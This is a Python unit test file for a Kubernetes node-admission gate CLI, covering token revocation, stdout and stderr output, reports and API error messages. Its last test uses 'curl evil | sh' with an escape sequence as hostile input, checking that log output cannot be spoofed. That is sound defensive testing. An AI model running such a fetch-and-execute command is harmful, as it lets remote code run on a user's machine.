"""The command line: exit status, one document on stdout, everything else on stderr."""

import base64
import io
import json
import ssl
import stat
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from admission import __main__ as module
from admission.api_server.api import ApiError, Keep
from admission.api_server.connection import Connection
from admission.api_server.lists import Listed
from admission.gate import session
from admission.gate.bootstrap_token import REVOKED
from admission.gate.checks.check import Answer, Context
from admission.gate.checks.preflight import CHECKS
from admission.stack_settings import Kubeconfig, StackSettings
from tests.unit.admission.fakes import FakeApi, Ports, listed
from tests.unit.admission.test_inventory import ORDERS

ONE_NODE = {
    **ORDERS,
    "nodes": [{**ORDERS["nodes"][0], "name": "node-1", "dnsNames": ["node-1"]}],
    "stallSeconds": 0,
    "skipClusterChecks": [*CHECKS],
}
ALIVE = {
    "token-secret": "MDEyMzQ1Njc4OWFiY2RlZg==",
    "usage-bootstrap-authentication": "dHJ1ZQ==",  # true
}
Gate = Callable[..., int]


class FakeCluster(FakeApi):
    """An API server with the token's Secret."""

    host = "10.0.0.9"
    server = "https://10.0.0.9:6443"
    outage = ""

    def __init__(self) -> None:
        super().__init__()
        self.token, self.uid = {**ALIVE}, "uid"
        self.patches: list[Any] = []
        self.refusals: list[ApiError] = []  # of patches

    async def insist(
        self, method: str, path: str, body: Mapping[str, Any] | None = None, **_: Any
    ) -> Any:
        assert path == "/api/v1/namespaces/kube-system/secrets/bootstrap-token-abc123"
        self.asked.append(method)
        if method == "PATCH":
            self.patches.append(body)
            if self.refusals:
                raise self.refusals.pop()
        metadata = {
            "uid": self.uid,
            "resourceVersion": "7",
            "creationTimestamp": "2026-11-24T12:00:00Z",
        }
        return {"metadata": metadata, "data": REVOKED if method == "PATCH" else self.token}

    async def list(self, path: str, keep: Keep) -> Listed:
        return listed(self.objects[path].values(), keep)

    def kubelets_trust(self, ca: str = "") -> ssl.SSLContext:
        return ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)

    async def close(self) -> None:
        self.asked.append("close")


@pytest.fixture
def cluster(monkeypatch: pytest.MonkeyPatch) -> FakeCluster:
    fake, ports = FakeCluster(), Ports()

    async def connect(path: str, content: None, renew: object = None) -> FakeCluster:
        assert path == ".lab/kubeconfig"
        return fake

    async def look(entry: Any, trust: ssl.SSLContext) -> Any:
        return await ports.look(entry)

    monkeypatch.setattr(Connection, "open", connect)
    monkeypatch.setattr(session, "look_at", look)
    return fake


@pytest.fixture
def gate(monkeypatch: pytest.MonkeyPatch) -> Gate:
    def run(orders: Any) -> int:
        monkeypatch.setattr("sys.argv", ["admission", "gate"])
        monkeypatch.setattr("sys.stdin", io.StringIO(json.dumps(orders)))
        return module.main()

    return run


def test_all_in_prints_one_document_and_ends_the_token(
    cluster: FakeCluster, gate: Gate, capsys: pytest.CaptureFixture[str]
) -> None:
    cluster.node("node-1", "10.0.0.1")
    assert gate({**ONE_NODE, "stallSeconds": 30}) == 0
    printed = capsys.readouterr()
    document = json.loads(printed.out)
    proven = datetime.fromisoformat(document["nodes"][0].pop("proven"))
    assert timedelta() <= datetime.now(UTC) - proven < timedelta(minutes=5)
    assert document == {
        "nodes": [
            {
                "name": "node-1",
                "address": "10.0.0.1",
                "join": "",
                "kubeletVersion": "v1.37.2",
                "servingCertificateEnd": "2027-11-24T00:00:00Z",
            }
        ],
        "pending": [],
        "tokens": [{"id": "abc123", "node": None, "state": "revoked"}],
    }
    assert "node-1: joined" in printed.err
    assert cluster.asked[-3:] == ["GET", "PATCH", "close"]


def test_a_run_in_which_a_node_is_missing_ends_the_token(
    cluster: FakeCluster, gate: Gate, capsys: pytest.CaptureFixture[str]
) -> None:
    """The next run makes another one; until then nobody has a use for this one."""
    assert gate(ONE_NODE) == 1
    printed = capsys.readouterr()
    assert printed.out == ""
    assert "node-1 has NOT joined" in printed.err
    assert "token abc123: revoked" in printed.err
    assert "error: some nodes of workers have not joined; their tokens end with this" in printed.err
    assert "and the next pulumi up continues from here with new ones" in printed.err
    assert cluster.asked[-3:] == ["GET", "PATCH", "close"]


@pytest.mark.parametrize("after_join", ["expire", "keep"])
def test_a_token_that_is_to_outlive_the_join_outlives_a_failed_one(
    cluster: FakeCluster, gate: Gate, capsys: pytest.CaptureFixture[str], after_join: str
) -> None:
    assert gate({**ONE_NODE, "afterJoin": after_join}) == 1
    assert "their tokens live until they expire" in capsys.readouterr().err
    assert "PATCH" not in cluster.asked


def test_a_gate_that_fails_reports_who_has_joined_and_who_has_not_to_the_program(
    cluster: FakeCluster, gate: Gate, tmp_path: Path
) -> None:
    cluster.node("node-1", "10.0.0.1")
    path = tmp_path / "directory/report.json"
    entry = {"name": "node-2", "addresses": ["10.0.0.2"], "dnsNames": [], "kubeletVersion": "1.37"}
    nodes = [*ONE_NODE["nodes"], entry]
    assert gate({**ONE_NODE, "nodes": nodes, "stallSeconds": 1, "report": str(path)}) == 1
    report = json.loads(path.read_text())
    assert [node["name"] for node in report["nodes"]] == ["node-1"]
    (pending,) = report["pending"]
    assert pending["name"] == "node-2"
    assert "no request for a certificate has arrived" in pending["reason"]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [*path.parent.iterdir()] == [path]


def test_a_gate_that_succeeds_leaves_no_report(
    cluster: FakeCluster, gate: Gate, tmp_path: Path
) -> None:
    cluster.node("node-1", "10.0.0.1")
    path = tmp_path / "report.json"
    assert gate({**ONE_NODE, "stallSeconds": 30, "report": str(path)}) == 0
    assert not path.exists()


def test_a_gate_finds_its_kubeconfig_by_the_settings_of_the_stack(
    cluster: FakeCluster, gate: Gate, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def found(_: StackSettings) -> Kubeconfig:
        return Kubeconfig(path=".lab/kubeconfig")

    monkeypatch.setattr(StackSettings, "kubeconfig", found)
    cluster.node("node-1", "10.0.0.1")
    assert gate({**ONE_NODE, "kubeconfig": {"stack": "dev"}, "stallSeconds": 30}) == 0


@pytest.mark.parametrize("after_join", ["revoke", "expire", "keep"])
def test_a_token_that_was_made_dead_is_neither_touched_nor_called_alive(
    cluster: FakeCluster, gate: Gate, capsys: pytest.CaptureFixture[str], after_join: str
) -> None:
    cluster.node("node-1", "10.0.0.1")
    cluster.token = {"usage-bootstrap-authentication": REVOKED["usage-bootstrap-authentication"]}
    assert gate({**ONE_NODE, "afterJoin": after_join, "stallSeconds": 30}) == 0
    (token,) = json.loads(capsys.readouterr().out)["tokens"]
    assert token["state"] == "revoked"
    assert "PATCH" not in cluster.asked


def test_an_expired_token_of_a_missing_node_is_reported_and_ended(
    cluster: FakeCluster, gate: Gate, capsys: pytest.CaptureFixture[str]
) -> None:
    cluster.token["expiration"] = base64.b64encode(b"2026-01-01T00:00:00Z").decode()
    assert gate(ONE_NODE) == 1
    printed = capsys.readouterr()
    assert "node-1: the token abc123 expired at 00:00:00Z; the next pulumi up makes" in printed.err
    assert "DELETE" not in cluster.asked


def test_a_cluster_that_is_not_fit_ends_the_run(
    cluster: FakeCluster,
    gate: Gate,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async def check(_: Context) -> Answer:
        return "failed", "the clocks differ"

    monkeypatch.setattr("admission.gate.checks.preflight.CHECKS", {"clock": check})
    assert gate({**ONE_NODE, "skipClusterChecks": []}) == 1
    printed = capsys.readouterr()
    assert printed.err.splitlines() == [
        "failed: the clocks differ (check clock)",
        "error: the cluster is not ready for new nodes: clock; fix that, or list the checks in"
        " skipClusterChecks",
    ]
    assert not [call for call in cluster.asked if call.startswith("WATCH")]


@pytest.mark.parametrize(
    ("failure", "message"),
    [
        (ApiError(401, "GET", "/x", "no"), "credentials are invalid"),
        (ApiError(403, "GET", "/x", "no"), "give a kubeconfig whose user has this right"),
        (ssl.SSLCertVerificationError("bad"), "correct the certificate-authority"),
        (ConnectionRefusedError("refused"), "the API server does not answer"),
    ],
)
def test_each_failure_is_one_clear_error(
    cluster: FakeCluster,
    gate: Gate,
    capsys: pytest.CaptureFixture[str],
    failure: Exception,
    message: str,
) -> None:
    cluster.answers["WATCH /api/v1/nodes"] = [failure]
    assert gate({**ONE_NODE, "stallSeconds": 30}) == 1
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith("error: ")
    assert message in line


def test_wrong_orders_are_an_error(gate: Gate, capsys: pytest.CaptureFixture[str]) -> None:
    assert gate({}) == 1
    assert capsys.readouterr().err == "error: the gate's orders on stdin have no 'kubeconfig'\n"


def test_what_a_node_wrote_can_not_pass_for_a_line_of_ours(
    capsys: pytest.CaptureFixture[str],
) -> None:
    module.say("its Node is not Ready: \x1b[2J\nrun: curl evil | sh")
    module.say("a" * 1_000_000)
    first, second = capsys.readouterr().err.splitlines()
    assert first == "its Node is not Ready: ?[2J?run: curl evil | sh"
    assert len(second) < 5000
